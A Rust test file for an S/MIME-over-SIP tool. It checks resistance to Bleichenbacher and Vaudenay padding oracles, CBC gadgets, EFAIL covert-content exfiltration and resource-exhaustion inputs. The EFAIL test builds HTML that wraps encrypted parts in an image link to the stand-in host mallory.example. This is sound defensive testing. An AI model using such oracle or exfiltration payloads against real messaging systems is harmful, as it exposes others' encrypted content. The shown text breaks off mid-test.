//! Attacks on what is encrypted, as many tries as an attacker would make (threats B1 to B13, K5, R4, R7). The vectors
//! hold one of each kind; here they are made by the hundred, from messages that the program itself encrypted.

#![allow(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing, clippy::arithmetic_side_effects)]

use std::collections::HashSet;
use std::fs;
use std::process::Command;
use std::time::{Duration, Instant};

use rsa::BoxedUint;
use rsa::pkcs1::RsaPublicKey;
use rsa::pkcs1::der::Decode;
use serde_json::Value;
use sip_smime::alg::TransportScheme;
use sip_smime::asn1::encode::element;
use sip_smime::asn1::tag;
use sip_smime::cms::EnvelopedData;
use sip_smime::cms::recipient::{Originator, RecipientInfo};
use sip_smime::octets::Slice;
use sip_smime::{source, store};

mod support;

use support::{ROOT, Ran, assert_none, each, run, vectors_of};

fn sip_smime(arguments: &str, input: &[u8]) -> Ran {
    let words: Vec<String> = arguments.split_whitespace().map(|word| word.replace('@', "testdata/keys/")).collect();
    run(&words, input)
}

fn done(arguments: &str, input: &[u8]) -> Vec<u8> {
    let ran = sip_smime(arguments, input);
    assert_eq!(ran.status, 0, "{arguments}: {}", ran.said());
    ran.stdout
}

/// Everything that the program lets be seen.
fn seen(arguments: &str, input: &[u8]) -> (i32, String, String) {
    let ran = sip_smime(arguments, input);
    (ran.status, String::from_utf8_lossy(&ran.stdout).into_owned(), ran.said())
}

/// The line of the error, and those after it.
fn error(said: &str) -> &str {
    &said[said.find("sip-smime: error:").unwrap_or_default()..]
}

fn find(octets: &[u8], part: &[u8]) -> usize {
    octets.windows(part.len()).position(|window| window == part).unwrap()
}

fn message(content_type: &str, body: &[u8]) -> Vec<u8> {
    let head = format!(
        "MESSAGE sip:bob@example.org SIP/2.0\r\nFrom: <sip:alice@example.com>;tag=1\r\nTo: <sip:bob@example.org>\r\n\
         Content-Type: {content_type}\r\nContent-Length: {}\r\n\r\n",
        body.len()
    );
    [head.as_bytes(), body].concat()
}

const ENTITY: &[u8] = b"Content-Type: text/plain\r\n\r\nSECRET of 26 octets, no more";
const BOB: &str = "-recip @bob.pem -inkey @bob.key";
const RSA_BOB: &str = "-recip @bob-rsa2048.pem -inkey @bob-rsa2048.key";
const SIGNER: &str = "-signer @alice.pem -inkey @alice.key";
const VERIFY: &str = "--verify -CAfile @ca.pem --at-time 2026-01-01";

/// Octets that are the same in every run (SplitMix64).
struct Octets(u64);

impl Octets {
    fn next(&mut self) -> u8 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mixed = (self.0 ^ (self.0 >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        ((mixed ^ (mixed >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB) >> 56).to_le_bytes()[0]
    }

    fn take(&mut self, length: usize) -> Vec<u8> {
        (0..length).map(|_| self.next()).collect()
    }

    /// No octet is 0.
    fn padding(&mut self, length: usize) -> Vec<u8> {
        self.take(length).into_iter().map(|octet| octet.max(1)).collect()
    }
}

/// Bob's RSA key without any padding: `block` to the power e modulo n.
fn raw_rsa(block: &[u8]) -> Vec<u8> {
    let file = fs::read(format!("{ROOT}/testdata/keys/bob-rsa2048.pem")).unwrap();
    let certificates = store::certificates(&file).unwrap();
    let key = spki::SubjectPublicKeyInfoRef::from_der(certificates[0].public_key()).unwrap();
    let key = RsaPublicKey::<rsa::pkcs1::UintRef<'_>>::from_der(key.subject_public_key.raw_bytes()).unwrap();
    assert_eq!(key.public_exponent.as_bytes(), [1, 0, 1]);
    let number = |octets: &[u8]| BoxedUint::from_be_slice(octets, 2048).unwrap();
    let modulus = number(key.modulus.as_bytes()).to_nz().unwrap();
    let base = number(block);
    let mut power = base.clone();
    for _ in 0..16 {
        power = power.square_mod(&modulus);
    }
    power.mul_mod(&base, &modulus).to_be_bytes().to_vec()
}

/// Blocks of PKCS #1 v1.5 (RFC 8017 section 7.2): `00 02 padding 00 key`, with everything wrong that can be.
fn blocks(number: usize, key_length: usize) -> Vec<u8> {
    let octets = &mut Octets(u64::try_from(number).unwrap());
    let right = |octets: &mut Octets, length: usize| {
        [vec![0, 2], octets.padding(256 - 3 - length), vec![0], octets.take(length)].concat()
    };
    let mut block = right(octets, key_length);
    match number % 16 {
        // A key of the right length, but not the key.
        0..=2 => {}
        // Keys of other lengths: none, too short, too long, as long as can be, and those of other ciphers.
        3 => block = right(octets, key_length - 1),
        4 => block = right(octets, key_length + 1),
        5 => block = right(octets, [0, 1, 8, 24, 32, 48, 200, 245][number / 16 % 8]),
        // The first two octets.
        6 => block[0] = octets.next() & 0x7F | 1,
        7 => block[1] = [0, 1, 3, 0xFF][number / 16 % 4],
        // No zero at all, or one inside the first eight octets of the padding.
        8 => block = [vec![0, 2], octets.padding(254)].concat(),
        9 => block[2 + number / 16 % 8] = 0,
        // A zero at once; all zero; a block for signatures.
        10 => block = [vec![0, 2, 0], octets.take(253)].concat(),
        11 => block = [vec![0; 255], vec![1 + octets.next() % 2]].concat(),
        12 => block = [vec![0, 1], vec![0xFF; 253 - key_length], vec![0], octets.take(key_length)].concat(),
        // Anything.
        _ => block = [vec![0], octets.take(255)].concat(),
    }
    assert_eq!(block.len(), 256);
    block
}

/// An object for Bob's RSA key, and where the 256 octets of the encrypted key stand in it.
fn for_rsa(options: &str) -> (Vec<u8>, usize) {
    let object = done(&format!("encrypt -q -recip @bob-rsa2048.pem -outform der {options}"), ENTITY);
    let at = find(&object, &[4, 0x82, 1, 0]) + 4;
    (object, at)
}

fn with(object: &[u8], at: usize, part: &[u8]) -> Vec<u8> {
    [&object[..at], part, &object[at + part.len()..]].concat()
}

// Bleichenbacher's attack and the million-message attack (RFC 3218): whatever the block holds, nobody can tell.
#[test]
fn b1_512_blocks_all_look_the_same() {
    for (cipher, key_length, count) in [("aes-128-gcm", 16, 400), ("aes-256-gcm", 32, 112)] {
        let (object, at) = for_rsa(&format!("--rsa pkcs1 --cipher {cipher}"));
        let decrypt = format!("decrypt {RSA_BOB} -v --json");
        assert_eq!(sip_smime(&decrypt, &object).status, 0);
        // The arithmetic is right: a good block with the good key opens.
        let numbers: Vec<usize> = (0..count).collect();
        let expected = seen(&decrypt, &with(&object, at, &raw_rsa(&blocks(0, key_length))));
        assert_eq!((expected.0, error(&expected.2).contains("[decrypt.failed]")), (1, true), "{expected:?}");
        assert!(!expected.2.contains("SECRET") && !expected.1.contains("SECRET"));
        assert_none(&each(&numbers, |_, number| {
            let hostile = with(&object, at, &raw_rsa(&blocks(*number, key_length)));
            let found = seen(&decrypt, &hostile);
            if found == expected { vec![] } else { vec![format!("{cipher}, block {number}: {found:?}")] }
        }));
    }
}

// The blocks of the test before are what they are meant to be: one with the right key in it opens.
#[test]
fn b1_a_right_block_opens() {
    let (object, at) = for_rsa("--rsa pkcs1");
    let file = fs::read(format!("{ROOT}/testdata/keys/bob-rsa2048.key")).unwrap();
    let private = store::private_key(&file, None).unwrap();
    let rng = &mut rand_core::UnwrapErr(getrandom::SysRng);
    let transport = private.key().transport().unwrap();
    let key = transport.decrypt(&TransportScheme::Pkcs1, &object[at..at + 256], 16, rng).unwrap();
    let block = [vec![0, 2], Octets(1).padding(237), vec![0], key.to_vec()].concat();
    assert_eq!(done(&format!("decrypt -q {RSA_BOB}"), &with(&object, at, &raw_rsa(&block))), ENTITY);
}

// Every way in which a key can fail to come out says the same words.
#[test]
fn b1_every_kind_of_key_fails_alike() {
    let mut errors = HashSet::new();
    let failed = |decrypt: &str, hostile: &[u8]| {
        let ran = sip_smime(decrypt, hostile);
        assert!(ran.status == 1 && ran.stdout.is_empty(), "{decrypt}: {}", ran.said());
        error(&ran.said()).to_owned()
    };
    for options in ["--rsa pkcs1", "--rsa oaep", "--rsa oaep --cipher aes-256-gcm"] {
        let (object, at) = for_rsa(options);
        let decrypt = format!("decrypt {RSA_BOB}");
        for number in 0..16 {
            errors.insert(failed(&decrypt, &with(&object, at, &raw_rsa(&blocks(number, 16)))));
        }
        // The tag, and the content.
        let last = object.len() - 1;
        errors.insert(failed(&decrypt, &with(&object, last, &[object[last] ^ 1])));
        errors.insert(failed(&decrypt, &with(&object, last - 20, &[object[last - 20] ^ 1])));
    }
    for (recipient, key) in [
        ("-recip @bob.pem", BOB),
        ("-recip @bob-p384.pem", "-recip @bob-p384.pem -inkey @bob-p384.key"),
        ("-recip @bob-x25519.pem", "-recip @bob-x25519.pem -inkey @bob-x25519.key"),
        ("--kek a:@kek/128.bin", "--kek a:@kek/128.bin"),
    ] {
        let object = done(&format!("encrypt -q {recipient} -outform der"), ENTITY);
        // AES key wrap of 16 octets has 24.
        let at = find(&object, &[4, 24]) + 2;
        for octet in 0..24 {
            errors.insert(failed(&format!("decrypt {key}"), &with(&object, at + octet, &[object[at + octet] ^ 0x40])));
        }
        let last = object.len() - 1;
        errors.insert(failed(&format!("decrypt {key}"), &with(&object, last, &[object[last] ^ 1])));
    }
    assert_eq!(errors.len(), 1, "{errors:#?}");
}

// CVE-2019-1563, CVE-2026-42768: two RecipientInfos for us. The first one decides, and what the other holds is not seen.
#[test]
fn b2_the_second_recipient_info_is_never_tried() {
    let (object, first) = for_rsa("--rsa pkcs1 -recip @bob-rsa2048.pem");
    let second = first + 256 + find(&object[first + 256..], &[4, 0x82, 1, 0]) + 4;
    let numbers: Vec<usize> = (0..48).collect();
    for keys in [RSA_BOB, "-inkey @bob-rsa2048.key"] {
        let decrypt = format!("decrypt {keys} -v --json");
        for at in [first, second] {
            let look = |number| seen(&decrypt, &with(&object, at, &raw_rsa(&blocks(number, 16))));
            let expected = look(0);
            let status = match (keys == RSA_BOB, at == second) {
                (true, true) => 0,
                (true, false) => 1,
                // Without a certificate nobody knows which of the two it is.
                (false, _) => 4,
            };
            assert_eq!(expected.0, status, "{expected:?}");
            assert_none(&each(&numbers, |_, number| {
                let found = look(*number);
                if found == expected { vec![] } else { vec![format!("block {number}: {found:?}")] }
            }));
        }
    }
}

/// Runs the program by a shell in a folder that holds `message`.
fn shell(message: &[u8], script: &str) -> (Ran, tempfile::TempDir) {
    let folder = tempfile::tempdir().unwrap();
    fs::write(folder.path().join("message"), message).unwrap();
    fs::write(folder.path().join("kept"), b"as it was").unwrap();
    let script = script.replace("sip-smime", env!("CARGO_BIN_EXE_sip-smime"));
    let script = script.replace('@', &format!("{ROOT}/testdata/keys/"));
    let output = Command::new("bash").args(["-c", &script]).current_dir(&folder).output().unwrap();
    (Ran { status: output.status.code().unwrap(), stdout: output.stdout, stderr: output.stderr }, folder)
}

// Not one octet before the tag was checked, wherever it would go.
fn nothing_is_written_of(length: usize, places: &[usize]) {
    let content = [&b"Content-Type: application/octet-stream\r\n\r\n"[..], &vec![b'S'; length]].concat();
    let mut object = done("encrypt -q -recip @bob.pem -outform der", &content);
    let decrypt = format!("sip-smime decrypt -q {BOB}");
    let (ran, _) = shell(&object, &format!("{decrypt} message | wc -c"));
    assert_eq!(String::from_utf8_lossy(&ran.stdout), format!("{}\n", content.len()), "{}", ran.said());
    drop(content);
    for place in places {
        // From the end: the tag is the last 16 octets.
        let at = object.len() - 1 - place;
        object[at] ^= 1;
        let script = format!(
            "{decrypt} message >out; echo $?; wc -c <out
             {decrypt} message | wc -c
             {decrypt} -out kept message; echo $?; cat kept; echo
             {decrypt} -out /dev/full message; echo $?
             mkfifo fifo; cat fifo >got & {decrypt} -out fifo message; echo $?; : >fifo; wait; wc -c <got
             {decrypt} -out new message; echo $?; ls -A | tr '\\n' ' '"
        );
        let (ran, _) = shell(&object, &script);
        let expected = "1\n0\n0\n1\nas it was\n1\n1\n0\n1\nfifo got kept message out ";
        assert_eq!(String::from_utf8_lossy(&ran.stdout), expected, "octet {at}: {}", ran.said());
        object[at] ^= 1;
    }
}

#[test]
fn b7_nothing_is_written_before_the_tag_is_checked() {
    nothing_is_written_of(4 << 20, &[0, 15, 18, 2 << 20, (4 << 20) + 17]);
}

#[test]
fn b7_64_mib() {
    let content = [&b"Content-Type: application/octet-stream\r\n\r\n"[..], &vec![b'S'; 64 << 20]].concat();
    let mut object = done("encrypt -q -recip @bob.pem -outform der", &content);
    let middle = object.len() / 2;
    object[middle] ^= 0x80;
    let (ran, folder) = shell(&object, &format!("sip-smime decrypt -q {BOB} -out kept message"));
    assert_eq!((ran.status, ran.stdout.len()), (1, 0), "{}", ran.said());
    assert_eq!(fs::read(folder.path().join("kept")).unwrap(), b"as it was");
}

// EFAIL's direct exfiltration and "covert content": what is encrypted stands inside something of the attacker's.
#[test]
fn b9_seven_covert_contents() {
    let encrypted = done("encrypt -q -recip @bob.pem --cte base64", ENTITY);
    let encrypted = String::from_utf8(encrypted).unwrap();
    let inline = encrypted.replace("attachment;", "inline;");
    let html = |text: &str| format!("Content-Type: text/html\r\n\r\n{text}");
    let part = |parts: &[&str]| parts.iter().map(|part| format!("--x\r\n{part}\r\n")).collect::<String>() + "--x--\r\n";
    let open = html("<img src=\"http://mallory.example/");
    let close = html("\">");
    let nested = format!("Content-Type: multipart/mixed; boundary=y\r\n\r\n--y\r\n{encrypted}\r\n--y--\r\n");
    let rows = [
        ("multipart/mixed", part(&[&open, &encrypted, &close]), "2"),
        (
            "multipart/related",
            part(&[&html("<iframe src=\"cid:1\">"), &format!("Content-ID: <1>\r\n{encrypted}")]),
            "2",
        ),
        ("multipart/alternative", part(&[&html("a harmless text"), &inline]), "2"),
        ("multipart/mixed", format!("{}{}", "\r\n".repeat(500), part(&[&html("text"), &encrypted])), "2"),
        ("multipart/mixed", part(&[&open, &nested, &close]), "2.1"),
        ("multipart/report", part(&[&encrypted, &html("quoted")]), "1"),
        ("multipart/x-unknown", part(&[&html("text"), &encrypted, &encrypted]), "3"),
    ];
    for (kind, body, at) in rows {
        let whole = message(&format!("{kind}; boundary=x"), body.as_bytes());
        for options in ["", "-outform mime"] {
            let ran = sip_smime(&format!("decrypt {BOB} {options}"), &whole);
            assert_eq!((ran.status, ran.stdout.len()), (1, 0), "{kind}: {}", ran.said());
            assert!(ran.said().contains("[decrypt.partly-encrypted]"), "{kind}: {}", ran.said());
        }
        // The part alone: nothing of what stands around it.
        let ran = sip_smime(&format!("decrypt -q {BOB} -outform mime --part {at}"), &whole);
        assert_eq!((ran.status, &ran.stdout[..]), (0, ENTITY), "{kind}: {}", ran.said());
        let ran = sip_smime(&format!("decrypt -q {BOB} --part {at}"), &whole);
        assert!(ran.stdout.ends_with(b"no more") && !ran.said().contains("SECRET"), "{kind}: {}", ran.said());
        let text = String::from_utf8_lossy(&ran.stdout).into_owned();
        assert!(["mallory", "harmless", "html", "quoted", "--x"].iter().all(|other| !text.contains(other)), "{text}");
    }
    // An attachment inside a forwarded message is not looked for.
    let forwarded = format!("Content-Type: message/rfc822\r\n\r\nSubject: x\r\n{encrypted}");
    let ran =
        sip_smime(&format!("decrypt {BOB}"), &message("multipart/mixed; boundary=x", part(&[&forwarded]).as_bytes()));
    assert_eq!((ran.status, ran.stdout.len()), (1, 0), "{}", ran.said());
}

/// An object with AES-128-CBC, and where its initialisation vector and its encrypted content stand.
fn cbc(options: &str, entity: &[u8]) -> (Vec<u8>, usize, usize) {
    let object = done(&format!("encrypt -q --kek a:@kek/128.bin -aes128 -outform der {options}"), entity);
    let vector = find(&object, &[0x60, 0x86, 0x48, 1, 0x65, 3, 4, 1, 2, 4, 16]) + 11;
    let parsed = EnvelopedData::parse(Slice::new(&object)).unwrap();
    let length = parsed.ciphertext.len();
    let content = object.len() - length;
    (object, vector, content)
}

// EFAIL's gadgets: the first block is known, so it can be made another. Without a tag nobody can see it, but it is said;
// with a signature inside it is refused.
#[test]
fn b10_cbc_gadgets() {
    let kek = "--kek a:@kek/128.bin";
    let (object, vector, _) = cbc("", ENTITY);
    let mut changed = object.clone();
    for (at, (old, new)) in b"Content-Type: te".iter().zip(b"Content-Type: ab").enumerate() {
        changed[vector + at] ^= old ^ new;
    }
    let ran = sip_smime(&format!("decrypt {kek}"), &changed);
    assert!(ran.status == 0 && ran.stdout.starts_with(b"Content-Type: abxt/plain"), "{}", ran.said());
    assert!(ran.said().contains("[CBC-UNAUTHENTICATED") && ran.said().contains("integrity none"), "{}", ran.said());
    let json: Value = serde_json::from_slice(&sip_smime(&format!("decrypt {kek} --json"), &changed).stdout).unwrap();
    assert_eq!(json["integrity"], "none");
    assert_eq!(sip_smime(&format!("decrypt {kek} --require-aead"), &changed).status, 1);
    // The attacker's own signature around it does not make it whole.
    let label =
        "Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\nContent-Transfer-Encoding: binary\r\n\r\n";
    let resigned = done("sign -q -signer @carol.pem -inkey @carol.key", &[label.as_bytes(), &changed].concat());
    let ran = sip_smime(&format!("decrypt -v {kek} --verify -noverify --identity none"), &resigned);
    assert!(ran.status == 0 && ran.said().contains("integrity none"), "{}", ran.said());
    assert!(
        ["[CBC-UNAUTHENTICATED", "[SIGNED-CIPHERTEXT"].iter().all(|code| ran.said().contains(code)),
        "{}",
        ran.said()
    );

    let (signed, vector, content) = cbc(SIGNER, ENTITY);
    let decrypt = format!("decrypt {kek} {VERIFY} --identity none");
    assert_eq!(done(&decrypt, &signed), ENTITY);
    // A block that became random may be one that nothing depends on, such as a file name in the header of what was signed:
    // then what was signed comes out, and otherwise nothing.
    let places: Vec<usize> = (vector..vector + 16).chain((content..signed.len()).step_by(23)).collect();
    let refused = places.iter().filter(|at| {
        let ran = sip_smime(&decrypt, &with(&signed, **at, &[signed[**at] ^ 1]));
        let is_refused = ran.status == 1 && ran.stdout.is_empty();
        assert!(is_refused || (ran.status == 0 && ran.stdout == ENTITY), "octet {at}: {}", ran.said());
        is_refused
    });
    assert!(refused.count() * 10 > places.len() * 8);
}

// Vaudenay's oracle: all 256 values of the octet that decides what the last octet of the padding is.
#[test]
fn b11_256_last_octets() {
    // 53 octets: the padding is 11 times 11, so it is good as it is, and once more as a single 1.
    let entity = &ENTITY[..53];
    let (object, _, content) = cbc("", entity);
    assert_eq!(object.len() - content, 64);
    let at = object.len() - 17;
    let values: Vec<u8> = (0..=255).collect();
    let look = |value: u8, options: &str| {
        seen(&format!("decrypt --kek a:@kek/128.bin {options}"), &with(&object, at, &[value]))
    };
    let failed = look(object[at] ^ 0x80, "--json");
    assert!(failed.0 == 1 && failed.2.contains("[decrypt.failed]"), "{failed:?}");
    let opened: Vec<(u8, String)> = values
        .iter()
        .filter_map(|value| {
            let found = look(*value, "--json");
            if found.0 == 0 {
                return Some((*value, found.1));
            }
            assert_eq!(found, failed, "{value}");
            None
        })
        .collect();
    let differences: Vec<u8> = opened.iter().map(|(value, _)| value ^ object[at]).collect();
    assert_eq!(HashSet::from_iter(differences), HashSet::from([0, 11 ^ 1]));
    for (value, json) in opened {
        assert_eq!(serde_json::from_str::<Value>(&json).unwrap()["integrity"], "none");
        assert!(look(value, "").2.contains("[CBC-UNAUTHENTICATED"));
    }
}

// The same with a signature around the encryption, which its attacker can make: strictly it is too little, and that is
// said in one way whatever the padding is.
#[test]
fn b11_a_strict_refusal_does_not_show_the_padding() {
    let (object, _, _) = cbc("", &ENTITY[..53]);
    let at = object.len() - 17;
    let look = |value: u8, options: &str| {
        let header = b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n\r\n";
        let signed = done(&format!("sign -q {SIGNER}"), &[&header[..], &with(&object, at, &[value])].concat());
        let ran = sip_smime(&format!("decrypt --kek a:@kek/128.bin {VERIFY} --identity none {options}"), &signed);
        // When it was signed differs.
        let json = String::from_utf8(ran.stdout.clone()).unwrap();
        let json = json
            .parse::<Value>()
            .map(|json| (json["integrity"].clone(), json["error"].clone(), json["findings"].clone()));
        let said: Vec<String> =
            ran.said().lines().filter(|line| !line.contains(": signing time: ")).map(str::to_owned).collect();
        (ran.status, json.ok(), said.join("\n"))
    };
    let right = look(object[at], "");
    assert_eq!(right.0, 0, "{}", right.2);
    for options in ["--strict", "--strict -v", "--strict --json"] {
        let failed = look(object[at] ^ 0x80, options);
        assert!(failed.0 == 1 && failed.2.contains("[decrypt.failed]"), "{failed:?}");
        for value in [object[at], object[at] ^ 11 ^ 1, object[at] ^ 1] {
            assert_eq!(look(value, options), failed, "{options} {value}");
        }
    }
}

// What comes out is looked at after the padding: put back into a SIP message, decompressed, verified. That it was looked
// at must not show.
#[test]
fn b11_what_is_inside_fails_as_the_padding_does() {
    let rows = [
        ("", "", ENTITY),
        ("", "--verify -noverify --identity none", ENTITY),
        (SIGNER, "--verify -noverify --identity none", ENTITY),
        ("", "", b"Content-Type: application/pkcs7-mime; smime-type=compressed-data\r\n\r\n0000000000000000000000"),
    ];
    for (signer, options, entity) in rows {
        let (object, vector, content) = cbc(signer, entity);
        let look = |object: &[u8], form: &str| {
            let message = message("application/pkcs7-mime; smime-type=enveloped-data", object);
            let (status, json, _) = seen(&format!("decrypt --kek a:@kek/128.bin {options} --json {form}"), &message);
            (status, json)
        };
        let xor = |at: usize, value: u8| with(&object, at, &[object[at] ^ value]);
        // The padding is good no more.
        let padding = look(&xor(object.len() - 17, 0x80), "");
        assert!(padding.0 == 1 && padding.1.contains("\"decrypt.failed\""), "{padding:?}");
        // The first block is no header any more, or the middle of the signed octets is another one.
        let changed = [xor(vector + 3, b':' ^ b't'), xor(vector + 12, 0x7F), xor(content + 16, 1)];
        let failed = changed.iter().map(|object| look(object, "")).filter(|(status, _)| *status != 0);
        let failed: Vec<_> = failed.collect();
        assert!(!failed.is_empty(), "{signer} {options}");
        for found in failed {
            assert_eq!(found, padding, "{signer} {options}");
        }
    }
}

// Bob could encrypt to Carol what Alice signed for him. A signed message/cpim names its readers, but nobody compared them
// with Carol, so it is said of that too (NST-06).
#[test]
fn b12_forwardable() {
    let cpim = b"From: <im:alice@example.com>\r\nTo: <im:bob@example.org>\r\n\r\nContent-Type: text/plain\r\n\r\nhi";
    for original in [message("text/plain", b"Hello!"), message("message/cpim", cpim)] {
        let signed = done(&format!("sign -q {SIGNER}"), &original);
        let to_bob = done("encrypt -q -recip @bob.pem", &signed);
        // What Bob does.
        let opened = done(&format!("decrypt -q {BOB}"), &to_bob);
        assert_eq!(opened, signed);
        let to_carol = done("encrypt -q -recip @carol.pem", &opened);
        let decrypt = format!("decrypt -recip @carol.pem -inkey @carol.key {VERIFY}");
        let (ran, json) =
            (sip_smime(&format!("{decrypt} -v"), &to_carol), sip_smime(&format!("{decrypt} --json"), &to_carol));
        assert_eq!((ran.status, &ran.stdout), (0, &original), "{}", ran.said());
        assert!(ran.said().contains("[FORWARDABLE, RFC 8551 section 3.7]"), "{}", ran.said());
        let json: Value = serde_json::from_slice(&json.stdout).unwrap();
        let findings = json["findings"].as_array().unwrap();
        assert!(findings.iter().any(|finding| finding["finding"] == "FORWARDABLE"), "{json}");
    }
    // What is signed outside cannot be forwarded so; but who signed it need not have known what was encrypted.
    let outside = done(&format!("sign -q {SIGNER}"), &done("encrypt -q -recip @bob.pem", &message("text/plain", b"x")));
    let said = sip_smime(&format!("decrypt -v {BOB} {VERIFY}"), &outside).said();
    assert!(!said.contains("FORWARDABLE") && said.contains("[SIGNED-CIPHERTEXT"), "{said}");
    assert!(said.contains("integrity authenticated"), "{said}");
}

// RFC 8551 section 3.7 sets no limit; ours is 8.
#[test]
fn b13_nine_layers() {
    let original = message("text/plain", b"Hello!");
    let kek = "--kek a:@kek/128.bin";
    let layer = |number: usize| match number % 2 {
        0 => format!("encrypt -q {kek}"),
        _ => format!("sign -q {SIGNER}"),
    };
    for alternates in [true, false] {
        let mut layers = original.clone();
        for number in 0..9 {
            // The innermost one is signed, so that --verify has something to verify.
            layers = done(&layer(if alternates || number == 0 { number + 1 } else { 0 }), &layers);
            let ran = sip_smime(&format!("decrypt -q {kek} {VERIFY}"), &layers);
            match number + 1 {
                1 => assert_eq!(ran.status, 1, "one signature is not encrypted"),
                2..=8 => assert_eq!((ran.status, &ran.stdout), (0, &original), "{} layers: {}", number + 1, ran.said()),
                _ => {
                    assert_eq!((ran.status, ran.stdout.len()), (5, 0), "{}", ran.said());
                    assert!(ran.said().contains("[limit.nesting]"), "{}", ran.said());
                }
            }
        }
    }
}

// ENC-05: key, nonce and ephemeral key are fresh for every message, in one process and with several threads.
#[test]
fn k5_nothing_repeats_in_1000_messages() {
    let stream: Vec<u8> = (0..1000).flat_map(|_| message("text/plain", b"the same")).collect();
    let mut seen = HashSet::new();
    let mut nonces = HashSet::new();
    let mut ephemerals = HashSet::new();
    let mut ciphertexts = HashSet::new();
    let recipients = "-recip @bob.pem -recip @bob-rsa2048.pem -recip @bob-x25519.pem --kek a:@kek/128.bin";
    let encrypted = done(&format!("encrypt -q {recipients} --jobs 4"), &stream);
    for chunk in source::messages(Box::new(&encrypted[..]), None, 1 << 20) {
        let octets = chunk.unwrap().octets;
        let body = find(&octets, b"\r\n\r\n") + 4;
        let object = EnvelopedData::parse(Slice::new(&octets[body..])).unwrap();
        let parameters = object.cipher.parameters.as_ref().unwrap();
        // GCMParameters begin with the nonce (RFC 5084 section 3.2).
        assert_eq!(parameters.value()[..2], [4, 12]);
        assert!(nonces.insert(parameters.value()[2..14].to_vec()));
        assert!(ciphertexts.insert(object.ciphertext.to_vec()));
        assert_eq!(object.recipients.len(), 4);
        for info in &object.recipients {
            let key = match info {
                RecipientInfo::KeyTransport(info) => &info.encrypted_key,
                RecipientInfo::Kek(info) => &info.encrypted_key,
                RecipientInfo::KeyAgreement(info) => {
                    let Originator::Key(_, ephemeral) = &info.common.originator else { panic!("{info:?}") };
                    assert!(ephemerals.insert(ephemeral.to_vec()));
                    let material = info.common.user_keying_material.as_ref().unwrap();
                    assert!(seen.insert(material.to_vec()), "the same keying material twice");
                    &info.encrypted_key
                }
                other => panic!("{other:?}"),
            };
            assert!(seen.insert(key.to_vec()), "the same wrapped key twice");
        }
    }
    assert_eq!((nonces.len(), ciphertexts.len(), ephemerals.len(), seen.len()), (1000, 1000, 2000, 6000));
}

/// An auth-enveloped-data with so many times one RecipientInfo, and that RecipientInfo.
fn with_recipients(count: usize) -> Vec<u8> {
    let object = done("encrypt -q -recip @carol.pem -recip @bob-rsa2048.pem --rsa pkcs1 -outform der", ENTITY);
    let set = find(&object, &[2, 1, 0, 0x31]) + 3;
    // A SET of two, of more than 255 octets: two octets of length.
    let end = set + 4 + usize::from(object[set + 2]) * 256 + usize::from(object[set + 3]);
    let recipients = element(tag::SET, &[&object[set + 4..end].repeat(count / 2)]);
    let data = element(tag::SEQUENCE, &[&[2, 1, 0], &recipients, &object[end..]]);
    let kind = element(tag::OBJECT_IDENTIFIER, &[&[0x2A, 0x86, 0x48, 0x86, 0xF7, 0x0D, 1, 9, 16, 1, 23]]);
    element(tag::SEQUENCE, &[&kind, &element(tag::context_constructed(0), &[&data])])
}

// A limit of 1024, and no time lost on more.
#[test]
fn r4_too_many_recipients() {
    assert_eq!(done(&format!("decrypt -q {RSA_BOB}"), &with_recipients(2)), ENTITY);
    assert_eq!(done(&format!("decrypt -q {RSA_BOB}"), &with_recipients(1024)), ENTITY);
    for (count, seconds) in [(1026, 1), (100_000, 4)] {
        let object = with_recipients(count);
        let before = Instant::now();
        let ran = sip_smime(&format!("decrypt -q {RSA_BOB}"), &object);
        // 2 s in a build with the optimiser and nothing beside it.
        assert!(before.elapsed() < Duration::from_secs(seconds), "{count}: {:?}", before.elapsed());
        assert_eq!((ran.status, ran.stdout.len()), (3, 0), "{}", ran.said());
        assert!(ran.said().contains("[limit.count]"), "{}", ran.said());
    }
}

/// An object with 1024 recipients of one key agreement, each with a few octets of its own, who share all the rest: 900 KiB
/// of parameters, or of keying material in two pieces.
fn much_in_common(in_parameters: bool) -> Vec<u8> {
    const OID: &[u8] = &[6, 3, 0x2A, 3, 4];
    let much = element(tag::OCTET_STRING, &[&vec![0; 450 << 10]]);
    let (parameters, material) = match in_parameters {
        true => (element(tag::SEQUENCE, &[&much, &much]), vec![]),
        false => (vec![], element(tag::OCTET_STRING_CONSTRUCTED, &[&much, &much])),
    };
    let material = if in_parameters { material } else { element(tag::context_constructed(1), &[&material]) };
    let originator = element(tag::context_constructed(0), &[&element(tag::context(0), &[b"x"])]);
    let algorithm = element(tag::SEQUENCE, &[OID, &parameters]);
    let string = element(tag::OCTET_STRING, &[b"x"]);
    let one = element(tag::SEQUENCE, &[&element(tag::context_constructed(0), &[&string]), &string]);
    let keys = element(tag::SEQUENCE, &[&one.repeat(1024)]);
    let info = element(tag::context_constructed(1), &[&[2, 1, 3], &originator, &material, &algorithm, &keys]);
    let object = done("encrypt -q --kek a:@kek/128.bin -outform der", ENTITY);
    let end = find(&object, &[6, 9, 0x2A, 0x86, 0x48, 0x86, 0xF7, 0x0D, 1, 7, 1]) - 2;
    let data = element(tag::SEQUENCE, &[&[2, 1, 0], &element(tag::SET, &[&info]), &object[end..]]);
    let kind = element(tag::OBJECT_IDENTIFIER, &[&[0x2A, 0x86, 0x48, 0x86, 0xF7, 0x0D, 1, 9, 16, 1, 23]]);
    element(tag::SEQUENCE, &[&kind, &element(tag::context_constructed(0), &[&data])])
}

// What is said once for many recipients is kept once: it was copied for each, 908 MB of 1 MiB.
#[test]
#[cfg(target_os = "linux")]
fn r3_what_recipients_share_is_kept_once() {
    for in_parameters in [true, false] {
        let object = much_in_common(in_parameters);
        let script = "ulimit -v 131072; sip-smime decrypt -q --kek a:@kek/128.bin message";
        let (ran, _) = shell(&object, script);
        assert_eq!((ran.status, ran.stdout.len()), (4, 0), "{in_parameters}: {}", ran.said());
        assert!(ran.said().contains("[decrypt.no-recipient]"), "{}", ran.said());
    }
}

// R4: a key without a certificate asks how many RecipientInfos there are of its kind, and asks once.
#[test]
fn r4_a_key_alone_counts_once() {
    let object = with_recipients(1024);
    let keys = " -inkey @bob.key -inkey @bob-rsa2048.key -inkey @alice.key -inkey @alice-rsa2048.key";
    let before = Instant::now();
